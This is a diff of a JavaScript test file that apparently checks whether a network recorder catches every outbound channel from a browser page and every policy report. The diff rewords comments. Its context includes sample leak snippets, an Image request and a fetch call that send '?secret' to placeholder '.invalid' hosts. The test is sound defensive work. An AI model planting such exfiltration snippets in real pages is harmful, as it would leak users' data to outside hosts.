@@ -1,6 +1,6 @@
-// Proves that the recorder sees what it must see: on a page that may do
-// anything, it catches each way out; on a page under the real policy, it
-// catches each report. What the other tests don't find is then not there.
+// Proves that the recorder sees what it must see: on an unrestricted page, it
+// catches each way of sending; on a page under the real policy, each report.
+// What the other tests don't find therefore didn't happen.
 import assert from "node:assert/strict";
 import { after, before, describe, test } from "node:test";
 import { launch, present } from "./lib/engines.js";
@@ -9,8 +9,8 @@ import { hostsIn } from "./lib/netlog.js";
 import { until } from "./lib/processes.js";
 import { startProxy } from "./lib/proxy.js";
 
-// Each way out goes to a host of its own, none of which there is. The ports
-// are ones that no browser blocks.
+// Each way of sending uses a different host, none of which exists. No browser
+// blocks these ports.
 const leaks = `
   new Image().src = "http://image.invalid:8123/i.png?secret";
   fetch("http://fetch.invalid:8123/", { mode: "no-cors" }).catch(() => {});
